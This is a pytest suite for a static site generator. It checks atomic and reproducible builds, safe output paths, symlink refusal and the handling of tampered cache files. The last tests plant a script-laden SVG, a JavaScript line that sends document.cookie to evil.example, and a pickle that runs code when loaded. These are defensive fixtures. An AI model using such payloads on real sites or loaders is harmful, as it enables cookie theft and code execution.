"""The build is atomic, refuses to clobber, never follows links out of content/, is reproducible.

A failed or SIGKILLed build leaves the last good site byte for byte; the next build succeeds;
files of deleted records disappear; `--out` refuses the project and foreign folders; the same
input with the same SOURCE_DATE_EPOCH gives the same bytes. A project folder is not trusted
more than its content: files posing as the build cache are not published or run.
"""

from __future__ import annotations

import errno
import importlib.util
import os
import pickle
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import vl_convert
from conftest import BASE, make_project, run_cli
from golden.support import EPOCH, SITE, build_env, read_tree, shared_cache

from site_gen.build import _state_path, build, cache_dir
from site_gen.chart_output import svg_cache_path, vegalite_version
from site_gen.problems import ProblemsFound
from site_gen.write import MARKER

LVIV = "id: lviv\nname: Lviv\ncountry: UA\nlat: 49.84\nlon: 24.03\n"
ROOT = Path(__file__).parent.parent


def generate(root: Path, records: int) -> Path:
    """A synthetic project from bench/synth.py (the benchmark's generator, not a package)."""
    spec = importlib.util.spec_from_file_location("synth", ROOT / "bench" / "synth.py")
    assert spec is not None and spec.loader is not None
    synth = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(synth)
    return synth.generate(root, records)


def snapshot(folder: Path) -> dict[str, tuple[bytes, int, int]]:
    """Every file's bytes, inode and modification time: "unchanged" means all three."""
    files = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            info = path.stat()
            files[path.relative_to(folder).as_posix()] = (path.read_bytes(), info.st_ino,
                                                          info.st_mtime_ns)
    return files


def published(out: Path) -> dict[str, bytes]:
    """The output's files; the marker must be there, but its build id differs per build."""
    tree = read_tree(out)
    assert tree.pop(MARKER).startswith(b"This folder is written by site-gen")
    return tree


def leftovers(out: Path) -> list[str]:
    """Anything a build left beside its output folder (a staging tree, a swap), besides
    the spare tree the next build brings up to date."""
    return sorted(p.name for p in out.parent.iterdir()
                  if p.name.startswith(f".{out.name}.") and p.name != f".{out.name}.old")


def site_gen(*args: str, cache: Path, **kwargs: object) -> subprocess.Popen[bytes]:
    env = {**os.environ, "SOURCE_DATE_EPOCH": EPOCH, "SITE_GEN_CACHE": str(cache)}
    env.pop("CI", None)
    return subprocess.Popen([sys.executable, "-m", "site_gen", *args], env=env, cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            start_new_session=True, **kwargs)  # type: ignore[call-overload]


# -- a failed build ---------------------------------------------------------------------------

def test_a_build_with_a_content_error_leaves_the_last_site_untouched(
        tmp_path: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    project = make_project(tmp_path, {"content/places/lviv.yaml": LVIV})
    out = tmp_path / "out"
    with build_env(shared_cache(tmp_path_factory)):
        build(project, out)
        before = snapshot(out)
        (project / "content/places/lviv.yaml").write_text(LVIV.replace("lat: 49.84", "lat: 94"))
        (project / "content/places/kyiv.yaml").write_text(
            (BASE / "content/places/kyiv.yaml").read_text().replace("Kyiv", "Kyiv, changed"))
        with pytest.raises(ProblemsFound):
            build(project, out)
    assert snapshot(out) == before
    assert leftovers(out) == []
    result = run_cli("build", str(project), "--out", str(out))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "Nothing was written" in result.output
    assert snapshot(out) == before


@pytest.mark.parametrize(("template", "where"), [
    ('{% extends "base.html" %}{% block content %}\n{{ no_such_name }}{% endblock %}\n',
     "templates/search.html:2:1: error[template]"),
    ('{% extends "base.html" %}{% block content %}{{ }\n', "templates/search.html:1:1"),
    ('{% extends "no-such-layout.html" %}\n', "no template named no-such-layout.html"),
])
def test_a_broken_template_is_a_problem_not_a_traceback(
        tmp_path: Path, tmp_path_factory: pytest.TempPathFactory, template: str,
        where: str) -> None:
    project = make_project(tmp_path)
    out = tmp_path / "out"
    with build_env(shared_cache(tmp_path_factory)):
        build(project, out)
        before = snapshot(out)
        (project / "templates").mkdir()
        (project / "templates/search.html").write_text(template)
        result = run_cli("build", str(project), "--out", str(out))
    assert result.exit_code == 1, result.output
    assert where in result.output and "Traceback" not in result.output
    assert snapshot(out) == before


def test_files_of_deleted_records_disappear(tmp_path: Path,
                                            tmp_path_factory: pytest.TempPathFactory) -> None:
    project = make_project(tmp_path, {"content/places/lviv.yaml": LVIV})
    out = tmp_path / "out"
    with build_env(shared_cache(tmp_path_factory)):
        build(project, out)
        assert (out / "places/lviv/index.html").is_file() and (out / "places/lviv.json").is_file()
        (project / "content/places/lviv.yaml").unlink()
        build(project, out)
    assert not (out / "places/lviv").exists() and not (out / "places/lviv.json").exists()
    tree = read_tree(out)
    assert not [path for path, data in tree.items() if b"places/lviv/" in data]
    assert b"Lviv" not in tree["data/places.csv"]
    assert leftovers(out) == []


def test_a_rebuild_swaps_in_a_new_tree_and_links_unchanged_files(
        tmp_path: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    project = make_project(tmp_path)
    out = tmp_path / "out"
    with build_env(shared_cache(tmp_path_factory)):
        build(project, out)
        folder, page = out.stat().st_ino, (out / "places/kyiv/index.html").stat().st_ino
        quote = project / "content/quotes/mayor-city-stands.yaml"
        quote.write_text(quote.read_text().replace("The city stands.", "The city holds."))
        build(project, out)
    assert b"The city holds." in (out / "quotes/mayor-city-stands/index.html").read_bytes()
    assert out.stat().st_ino != folder, "the output folder was changed in place"
    assert (out / "places/kyiv/index.html").stat().st_ino == page
    assert leftovers(out) == [] and (out / MARKER).is_file()


# -- a killed build ---------------------------------------------------------------------------

KILL_AFTER = (0.2, 0.5, 1.0, 2.0, "staging")  # seconds, or when the staging tree appears


def _kill(process: subprocess.Popen[bytes], staging: Path, when: float | str) -> None:
    if when == "staging":
        deadline = time.monotonic() + 120
        while not staging.exists() and process.poll() is None and time.monotonic() < deadline:
            time.sleep(0.002)
    else:
        assert isinstance(when, float)
        time.sleep(when)
    if process.poll() is None:
        os.killpg(process.pid, signal.SIGKILL)
    process.wait(timeout=60)


def test_a_sigkilled_build_leaves_the_last_good_site_and_the_next_build_succeeds(
        tmp_path: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    project = generate(tmp_path / "synthetic", 200)
    out = tmp_path / "out"
    cache = shared_cache(tmp_path_factory)
    first = site_gen("build", str(project), "--out", str(out), cache=cache)
    assert first.wait(timeout=600) == 0, first.communicate()[1].decode()[-2000:]
    good = published(out)
    site = project / "site.yaml"
    site.write_text(site.read_text().replace("title: Synthetic fact base",
                                             "title: Synthetic fact base, edited"))
    killed: list[tuple[float | str, dict[str, bytes]]] = []
    for when in KILL_AFTER:
        process = site_gen("build", str(project), "--out", str(out), cache=cache)
        _kill(process, out.parent / f".{out.name}.new", when)
        killed.append((when, published(out)))
    last = site_gen("build", str(project), "--out", str(out), cache=cache)
    assert last.wait(timeout=600) == 0, last.communicate()[1].decode()[-2000:]
    new = published(out)
    assert new != good and b"edited" in new["index.html"]
    for when, tree in killed:
        assert tree in (good, new), f"killed after {when}: a mix of two builds"
    assert any(tree == good for _, tree in killed), "no kill landed before the swap"
    assert leftovers(out) == []


# -- where the site may be written --------------------------------------------------------------

@pytest.mark.parametrize("target", [
    ".", "content", "templates", "datasets", "content/events", "..", "foreign", "linked-content",
    "site.yaml",
])
def test_out_refuses_the_project_its_sources_and_foreign_folders(tmp_path: Path,
                                                                 target: str) -> None:
    project = make_project(tmp_path)
    for folder in ("templates", "datasets"):
        (project / folder).mkdir()
    (tmp_path / "foreign").mkdir()
    (tmp_path / "foreign/thesis.tex").write_text("precious")
    (tmp_path / "linked-content").symlink_to(project / "content")
    place = tmp_path / target if target in ("foreign", "linked-content", "..") else (
        project / target)
    before = snapshot(tmp_path)
    result = run_cli("build", str(project), "--out", str(place))
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output and result.exception is not None
    assert "--out" in result.output or "site-gen" in result.output
    assert {k: v[0] for k, v in snapshot(tmp_path).items()} == {
        k: v[0] for k, v in before.items()}


def test_out_under_a_file_is_refused_with_the_reason(tmp_path: Path) -> None:
    project = make_project(tmp_path)
    (tmp_path / "notes.txt").write_text("a file, not a folder")
    before = snapshot(tmp_path)
    result = run_cli("build", str(project), "--out", str(tmp_path / "notes.txt/site/out"))
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    said = " ".join(result.output.split())
    assert f"its folder cannot be made ({os.strerror(errno.ENOTDIR)}: " in said, said
    assert "notes.txt/site); choose another --out" in said, said
    assert snapshot(tmp_path) == before


def test_out_accepts_a_new_folder_an_empty_one_and_its_own(tmp_path: Path,
                                                           tmp_path_factory: pytest.TempPathFactory
                                                           ) -> None:
    project = make_project(tmp_path)
    (tmp_path / "empty").mkdir()
    with build_env(shared_cache(tmp_path_factory)):
        for target in ("new/site", "empty", "empty"):
            result = run_cli("build", str(project), "--out", str(tmp_path / target))
            assert result.exit_code == 0, result.output
    assert (tmp_path / "empty" / MARKER).is_file()


# -- links out of content/ -----------------------------------------------------------------------

def _outside(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "lviv.yaml").write_text(LVIV.replace("Lviv", "SECRET-OUTSIDE"))
    return outside


@pytest.mark.parametrize("link", ["content/places/lviv.yaml", "content/places/more",
                                  "content/sources", "content"])
def test_symlinks_in_content_are_refused_and_never_read(tmp_path: Path, link: str) -> None:
    project = make_project(tmp_path)
    outside = _outside(tmp_path)
    if link == "content/sources":
        shutil.move(project / link, outside / "sources")
        (project / link).symlink_to(outside / "sources")
    elif link == "content":
        shutil.move(project / link, outside / "content")
        (outside / "content/places/lviv.yaml").write_text((outside / "lviv.yaml").read_text())
        (project / link).symlink_to(outside / "content")
    else:
        (project / link).symlink_to(outside / ("lviv.yaml" if link.endswith(".yaml") else ""))
    result = run_cli("build", str(project), "--out", str(tmp_path / "out"))
    assert result.exit_code == 1, result.output
    assert f"{link}:1:1: error[content-symlink]" in result.output
    assert "SECRET-OUTSIDE" not in result.output and not (tmp_path / "out").exists()


# -- reproducible output --------------------------------------------------------------------------

@pytest.fixture(scope="module")
def twice(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, bytes], dict[str, bytes]]:
    """The golden site built by two processes into two folders, the cache removed between."""
    root = tmp_path_factory.mktemp("twice")
    project = root / "project"
    shutil.copytree(SITE, project)
    trees = []
    for name in ("one", "two"):
        shutil.rmtree(project / ".cache", ignore_errors=True)
        env = {**os.environ, "SOURCE_DATE_EPOCH": EPOCH}
        env.pop("SITE_GEN_CACHE", None)
        run = subprocess.run([sys.executable, "-m", "site_gen", "build", str(project), "--out",
                              str(root / name)], env=env, cwd=ROOT, capture_output=True,
                             timeout=600, check=False)
        assert run.returncode == 0, run.stderr.decode()[-2000:]
        assert cache_dir(project).is_dir()
        trees.append(read_tree(root / name))
    return trees[0], trees[1]


def test_the_same_input_gives_the_same_bytes_in_every_published_file(
        twice: tuple[dict[str, bytes], dict[str, bytes]]) -> None:
    one, two = twice
    assert sorted(one) == sorted(two)
    assert any(p.endswith(".zip") for p in one) and any(p.endswith(".sqlite") for p in one)
    assert any(p.endswith(".svg") for p in one) and any("search-index/" in p for p in one)
    differ = [path for path in one if path != MARKER and one[path] != two[path]]
    assert differ == []


def test_the_output_marker_is_the_same_too(
        twice: tuple[dict[str, bytes], dict[str, bytes]]) -> None:
    one, two = twice
    assert one[MARKER] == two[MARKER]


# -- files posing as the build cache --------------------------------------------------------------

HOSTILE_SVG = (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script>'
               b'<a href="javascript:alert(1)"><text>fake numbers</text></a></svg>')


def test_a_committed_cache_svg_with_script_is_drawn_again_not_published(
        tmp_path: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    project = make_project(tmp_path)
    cache = tmp_path / "cache"
    with build_env(cache):
        build(project, tmp_path / "first", incremental=False)
    specs = sorted(cache.glob("svg/*.svg"))
    assert specs
    for path in specs:
        path.write_bytes(HOSTILE_SVG)
    with build_env(cache):
        build(project, tmp_path / "out", incremental=False)
    tree = read_tree(tmp_path / "out")
    svgs = [data for path, data in tree.items() if path.endswith(".svg")]
    assert svgs and not any(b"<script" in data or b"javascript:" in data for data in svgs)
    assert not any(b"<script" in path.read_bytes() for path in specs), "the cache was not mended"
    spec = tree["charts/places-map.vl.json"]
    assert svg_cache_path(cache, spec).read_bytes() == tree["charts/places-map.svg"]


def test_a_committed_vega_bundle_in_the_project_cache_is_not_published(tmp_path: Path) -> None:
    project = make_project(tmp_path)
    env = {**os.environ, "SOURCE_DATE_EPOCH": EPOCH}
    env.pop("SITE_GEN_CACHE", None)
    bundles = project / ".cache" / "site-gen" / "vega"  # where a project could plant one
    bundles.mkdir(parents=True)
    name = f"vega-bundle-{vl_convert.__version__}-{vegalite_version()}-wrapped.js"
    (bundles / name).write_text("fetch('https://evil.example/?'+document.cookie);\n")
    run = subprocess.run([sys.executable, "-m", "site_gen", "build", str(project), "--out",
                          str(tmp_path / "out")], env=env, cwd=ROOT, capture_output=True,
                         timeout=600, check=False)
    assert run.returncode == 0, run.stderr.decode()[-2000:]
    assert b"evil.example" not in (tmp_path / "out/assets/vega/vega-bundle.js").read_bytes()


class _Planted:
    """Unpickling this touches a file: proof that loading ran code from the project folder."""

    def __init__(self, proof: Path) -> None:
        self.proof = proof

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (os.rename, (str(self.proof) + ".armed", str(self.proof)))


def test_a_committed_build_state_does_not_run_code(tmp_path: Path) -> None:
    project = make_project(tmp_path)
    out = tmp_path / "out"
    proof = tmp_path / "code-ran"
    Path(str(proof) + ".armed").write_text("x")
    state = project / ".cache" / "site-gen" / _state_path(project, out.resolve()).name
    state.parent.mkdir(parents=True)
    state.write_bytes(pickle.dumps(_Planted(proof)))
    env = {**os.environ, "SOURCE_DATE_EPOCH": EPOCH, "XDG_CACHE_HOME": str(tmp_path / "xdg")}
    env.pop("SITE_GEN_CACHE", None)
    run = subprocess.run([sys.executable, "-m", "site_gen", "build", str(project), "--out",
                          str(out)], env=env, cwd=ROOT, capture_output=True, timeout=600,
                         check=False)
    assert run.returncode == 0, run.stderr.decode()[-2000:]
    assert not proof.exists()
